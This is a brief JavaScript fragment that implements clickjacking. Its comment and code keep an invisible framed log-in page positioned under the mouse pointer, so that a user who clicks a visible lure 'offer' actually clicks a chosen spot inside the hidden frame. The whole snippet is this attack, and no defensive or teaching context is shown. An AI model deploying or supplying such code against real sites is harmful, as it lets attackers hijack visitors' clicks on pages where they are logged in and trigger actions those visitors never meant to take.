/** A log-in page in a frame that nobody sees, kept under the pointer: the click on the offer lands where the frame has its mark. */
const frame = document.getElementById('framed');
const lure = document.getElementById('lure');
const mark = { x: Number(frame.dataset.x), y: Number(frame.dataset.y) };
window.addEventListener('pointermove', ({ clientX, clientY }) => {
  frame.style.left = `${clientX - mark.x}px`;
  frame.style.top = `${clientY - mark.y}px`;
});
const { left, top, width, height } = lure.getBoundingClientRect();
window.__target = { x: left + width / 2, y: top + height / 2 };
